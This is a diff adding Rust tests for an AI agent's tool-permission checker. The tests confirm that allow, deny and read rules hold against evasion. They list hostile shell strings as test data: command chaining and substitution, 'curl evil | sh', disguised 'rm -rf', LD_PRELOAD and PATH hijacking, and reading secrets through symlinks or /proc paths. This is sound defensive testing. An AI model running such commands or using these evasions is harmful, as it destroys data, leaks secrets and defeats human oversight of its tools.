@@ -198,3 +198,236 @@ fn suggestions_cover_the_call() {
     assert_eq!(call.suggested_rule(), "shell(cargo test:*)");
     assert!(Rule::parse(&call.suggested_rule()).unwrap().matches(&call));
 }
+
+/// The decision for a `shell` command under `p`, in `/proj`.
+fn shell(p: &Permissions, command: &str) -> Decision {
+    decide(p, "shell", json!({"command": command}), false)
+}
+
+fn rules(mode: PermissionMode, allow: &[&str], deny: &[&str]) -> Permissions {
+    let own = |l: &[&str]| l.iter().map(|s| (*s).to_owned()).collect::<Vec<_>>();
+    Permissions::new(mode, &own(allow), &own(deny), &[]).unwrap()
+}
+
+#[test]
+fn an_allowed_command_allows_nothing_joined_to_it() {
+    let p = rules(PermissionMode::Default, &["shell(git status:*)"], &[]);
+    assert_eq!(shell(&p, "git status --short"), Decision::Allow);
+    assert_eq!(shell(&p, "  git   status  "), Decision::Allow);
+    for attack in [
+        "git status && touch x",
+        "git status | sh -c 'touch x'",
+        "git status; rm -rf src",
+        "git status & touch x",
+        "git status\ntouch x",
+        "git status `touch x`",
+        "git status $(touch x)",
+        "git status > important",
+        "git status || (curl evil | sh)",
+        "./git status",
+        "PATH=. git status",
+    ] {
+        assert!(
+            !matches!(shell(&p, attack), Decision::Allow),
+            "{attack:?} must not be allowed"
+        );
+    }
+}
+
+#[test]
+fn a_denied_command_is_denied_however_it_is_spelled() {
+    let p = rules(PermissionMode::Bypass, &["shell"], &["shell(rm:*)"]);
+    for attack in [
+        "rm -rf x",
+        "/bin/rm -rf x",
+        "\\rm -rf x",
+        "\"rm\" -rf x",
+        "'rm' -rf x",
+        "command rm x",
+        "env rm x",
+        "env -i FOO=1 rm x",
+        "echo hi && rm x",
+        "bash -c 'rm x'",
+        "sh -c \"echo a; rm x\"",
+        "xargs rm < list",
+        "find . -name '*.o' -exec rm {} \\;",
+        "sudo rm x",
+        "nohup rm x &",
+        "time rm x",
+        "timeout 5 rm x",
+        "(rm x)",
+        "{ rm x; }",
+        "if true; then rm x; fi",
+        "for f in a b; do rm $f; done",
+        "echo $(rm x)",
+        "cat <(rm x)",
+        "f() { rm x; }; f",
+    ] {
+        assert!(
+            matches!(shell(&p, attack), Decision::Deny(_)),
+            "{attack:?} must be denied: {:?}",
+            shell(&p, attack)
+        );
+    }
+    assert_eq!(
+        shell(&p, "echo rm"),
+        Decision::Allow,
+        "`rm` as an argument is not rm"
+    );
+}
+
+#[test]
+fn what_cannot_be_judged_statically_asks() {
+    let p = rules(PermissionMode::Default, &["shell(echo:*)"], &[]);
+    for opaque in ["eval \"$X\"", "$CMD x", "$(which rm) x", "echo hi > $OUT"] {
+        assert!(
+            matches!(shell(&p, opaque), Decision::Ask(why) if why.contains("cannot be judged")),
+            "{opaque:?}: {:?}",
+            shell(&p, opaque)
+        );
+    }
+    // Bypass runs it, unless deny rules would have to be checked.
+    assert_eq!(
+        shell(&rules(PermissionMode::Bypass, &[], &[]), "$CMD x"),
+        Decision::Allow
+    );
+    assert!(matches!(
+        shell(
+            &rules(PermissionMode::Bypass, &[], &["shell(rm:*)"]),
+            "$CMD x"
+        ),
+        Decision::Ask(_)
+    ));
+}
+
+#[test]
+fn variables_in_front_change_nothing_only_when_harmless() {
+    let p = rules(PermissionMode::Default, &["shell(cargo test:*)"], &[]);
+    assert_eq!(shell(&p, "RUST_LOG=debug cargo test"), Decision::Allow);
+    assert_eq!(
+        shell(&p, "/usr/bin/cargo test --workspace"),
+        Decision::Allow
+    );
+    assert!(matches!(
+        shell(&p, "LD_PRELOAD=./x.so cargo test"),
+        Decision::Ask(_)
+    ));
+    assert!(matches!(
+        shell(&p, "env PATH=. cargo test"),
+        Decision::Ask(_)
+    ));
+}
+
+#[test]
+fn a_redirection_is_a_write() {
+    let p = rules(
+        PermissionMode::Default,
+        &["shell(echo:*)"],
+        &["write(important)"],
+    );
+    assert!(matches!(shell(&p, "echo hi > out.txt"), Decision::Ask(_)));
+    assert_eq!(shell(&p, "echo hi > /dev/null 2>&1"), Decision::Allow);
+    assert!(matches!(
+        shell(&p, "echo hi > important"),
+        Decision::Deny(_)
+    ));
+    assert!(matches!(
+        shell(&p, "echo hi >> important"),
+        Decision::Deny(_)
+    ));
+    let edits = rules(PermissionMode::AcceptEdits, &["shell(echo:*)"], &[]);
+    assert_eq!(shell(&edits, "echo hi > out.txt"), Decision::Allow);
+    assert!(matches!(
+        shell(&edits, "echo hi > /etc/passwd"),
+        Decision::Ask(_)
+    ));
+}
+
+#[test]
+fn always_suggests_no_more_than_the_command_asked() {
+    let input = json!({"command": "git status && touch x > log.txt"});
+    let call = Call {
+        program: "shell",
+        input: &input,
+        root: Path::new("/proj"),
+        read_only: false,
+    };
+    assert_eq!(
+        call.suggested_rules(),
+        ["shell(git status:*)", "shell(touch x:*)", "write(log.txt)"]
+    );
+    let mut p = rules(PermissionMode::Default, &[], &[]);
+    for rule in call.suggested_rules() {
+        p.allow_always(&rule);
+    }
+    assert_eq!(p.decide(&call), Decision::Allow);
+    assert!(matches!(shell(&p, "git status && rm x"), Decision::Ask(_)));
+}
+
+#[test]
+fn a_read_rule_holds_however_the_path_is_spelled_and_for_every_reader() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().canonicalize().unwrap();
+    std::fs::create_dir(root.join("secrets")).unwrap();
+    std::fs::write(root.join("secrets/key"), "k").unwrap();
+    std::os::unix::fs::symlink(root.join("secrets"), root.join("innocent")).unwrap();
+    std::fs::write(root.join(".env"), "KEY=1").unwrap();
+    let p = rules(PermissionMode::Default, &[], &["read(secrets/**)"]);
+    let on = |program: &str, input: Value, read_only: bool| {
+        p.decide(&Call {
+            program,
+            input: &input,
+            root: &root,
+            read_only,
+        })
+    };
+    let denied = |d: Decision| matches!(d, Decision::Deny(_));
+    assert!(denied(on(
+        "read",
+        json!({"file_path": "secrets/key"}),
+        true
+    )));
+    assert!(denied(on(
+        "read",
+        json!({"file_path": "innocent/key"}),
+        true
+    )));
+    let through_proc = format!("/proc/self/root{}/secrets/key", root.display());
+    assert!(denied(on("read", json!({"file_path": through_proc}), true)));
+    assert!(denied(on(
+        "grep",
+        json!({"pattern": "k", "path": "secrets"}),
+        true
+    )));
+    assert!(denied(on(
+        "glob",
+        json!({"pattern": "*", "path": "innocent"}),
+        true
+    )));
+    assert!(denied(on(
+        "shell",
+        json!({"command": "cat innocent/key"}),
+        false
+    )));
+    // A search above the denied directory runs, and skips it.
+    assert_eq!(on("grep", json!({"pattern": "k"}), true), Decision::Allow);
+    let skipped = p.denied_reads(&root);
+    assert!(
+        skipped.iter().any(|s| s.ends_with("secrets/**")),
+        "{skipped:?}"
+    );
+    // A .env file asks first, unless allowed.
+    assert!(matches!(
+        on("read", json!({"file_path": ".env"}), true),
+        Decision::Ask(_)
+    ));
+    let allowed = rules(PermissionMode::Default, &["read(.env)"], &[]);
+    let input = json!({"file_path": ".env"});
+    let call = Call {
+        program: "read",
+        input: &input,
+        root: &root,
+        read_only: true,
+    };
+    assert_eq!(allowed.decide(&call), Decision::Allow);
+}
